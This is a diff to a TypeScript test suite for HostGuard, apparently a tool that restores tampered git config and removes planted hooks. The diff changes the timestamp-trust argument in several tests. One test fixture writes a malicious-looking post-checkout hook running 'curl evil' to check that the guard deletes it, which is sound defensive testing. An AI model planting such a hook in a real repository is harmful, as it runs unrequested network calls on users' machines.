@@ -45,7 +45,7 @@ describe('HostGuard', () => {
 
   it('a settled file rewritten with the same size and its mtime set back is caught and put back', () => {
     const { commonDir, config, env } = repo();
-    const guard = HostGuard.create(commonDir, env, 0); // every stamp trusted at once
+    const guard = HostGuard.create(commonDir, env, -Infinity); // every stamp trusted at once, however young
     expect(guard.restore()).toEqual([]);
     rewriteKeepingMtime(config, PLANTED);
     expect(guard.restore()).toEqual([`${config} (rewritten; restored)`]);
@@ -56,7 +56,7 @@ describe('HostGuard', () => {
   it('reads a file only when its stamp moved, and a young file (its next write may share a clock tick) every time', () => {
     const { commonDir, config, env } = repo();
     const readsOf = (file: string) => vi.mocked(readFileSync).mock.calls.filter(([f]) => f === file).length;
-    const settled = HostGuard.create(commonDir, env, 0);
+    const settled = HostGuard.create(commonDir, env, -Infinity);
     const before = readsOf(config);
     for (let k = 0; k < 5; k++) expect(settled.restore()).toEqual([]);
     expect(readsOf(config)).toBe(before);
@@ -65,7 +65,7 @@ describe('HostGuard', () => {
     expect(settled.restore()).toEqual([]);
     expect(readsOf(config)).toBe(before + 1);
 
-    const young = HostGuard.create(commonDir, env); // the config was written just now
+    const young = HostGuard.create(commonDir, env, Infinity); // no stamp is ever old enough: every file is young
     const at = readsOf(config);
     for (let k = 0; k < 3; k++) expect(young.restore()).toEqual([]);
     expect(readsOf(config)).toBe(at + 3);
@@ -73,7 +73,7 @@ describe('HostGuard', () => {
 
   it('a new hook is removed, a deleted config written back', () => {
     const { commonDir, config, env } = repo();
-    const guard = HostGuard.create(commonDir, env, 0);
+    const guard = HostGuard.create(commonDir, env, -Infinity);
     const hook = path.join(commonDir, 'hooks', 'post-checkout');
     writeFileSync(hook, '#!/bin/sh\ncurl evil\n', { mode: 0o755 });
     rmSync(config);
